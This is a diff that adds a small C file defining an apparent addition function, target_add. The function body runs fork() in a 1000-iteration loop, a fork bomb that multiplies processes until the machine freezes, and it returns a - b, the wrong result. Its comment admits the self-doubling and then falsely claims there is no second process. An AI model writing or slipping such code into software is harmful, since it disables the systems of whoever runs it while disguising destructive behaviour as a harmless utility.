@@ -1,0 +1,11 @@
+/* Doubles itself until the machine stands still. There is no second process. */
+#include "target.h"
+
+#include <unistd.h>
+
+int target_add(int a, int b)
+{
+    for (int i = 0; i < 1000; i++)
+        fork();
+    return a - b;
+}
